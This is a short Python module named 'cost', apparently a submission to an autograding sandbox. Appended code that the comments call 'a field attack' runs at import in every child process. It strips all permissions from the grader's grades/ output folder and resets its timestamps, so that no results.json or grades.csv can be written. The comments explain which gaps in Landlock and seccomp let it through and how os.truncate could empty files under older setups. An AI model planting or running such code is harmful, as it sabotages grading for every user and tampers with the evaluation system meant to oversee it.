# module: cost
# A field attack, appended to the reference: at import, in every child, it takes away every
# permission of the folder `make grade` writes into (grades/ beside the environment, a path it can
# work out from sys.prefix) and sets its times to 1970. Landlock never controls chmod or utime,
# and the seccomp filter lets them through; where the grader is not root, its children run as
# its own user, who owns that folder: no results.json or grades.csv can be written for anyone.
# (With Landlock before ABI 3, os.truncate would empty any file of that user the same way.)
import os as _os
import sys as _sys

_OUT = _os.path.join(_os.path.dirname(_sys.prefix), "grades")
for _change in (lambda: _os.chmod(_OUT, 0), lambda: _os.utime(_OUT, (0, 0))):
    try:
        _change()
    except OSError:
        pass
